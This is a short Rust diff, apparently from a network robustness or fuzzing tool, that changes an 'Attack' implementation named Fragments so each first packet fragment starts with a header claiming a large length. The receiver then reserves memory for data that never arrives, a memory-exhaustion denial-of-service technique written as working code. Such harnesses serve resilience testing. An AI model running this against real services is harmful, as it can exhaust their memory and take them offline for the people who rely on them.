@@ -12,6 +12,8 @@ use crate::pace::Spent;
 const SMALL: usize = 40;
 /// The payload of some: as much as fits into a datagram.
 const LARGE: usize = 1300;
+/// How the Data in each begins: it says that nearly as many bytes will come as a packet may have, and memory is set aside for them.
+const START: &[u8] = &[0x06, 0xfd, 0x22, 0x00];
 
 /// First slices of packets, of many ports, each with a new number.
 #[derive(Default)]
@@ -37,7 +39,8 @@ impl Attack for Fragments {
     fn strike(&mut self, field: &mut Field, room: usize) -> io::Result<Spent> {
         let packets = (0..room).map(|_| {
             self.sent += 1;
-            let payload = vec![6; if self.sent.is_multiple_of(4) { LARGE } else { SMALL }];
+            let mut payload = START.to_vec();
+            payload.resize(if self.sent.is_multiple_of(4) { LARGE } else { SMALL }, 0);
             let view = LpPacketView {
                 sequence: Some(field.random.next_u64()),
                 frag_index: Some(0),
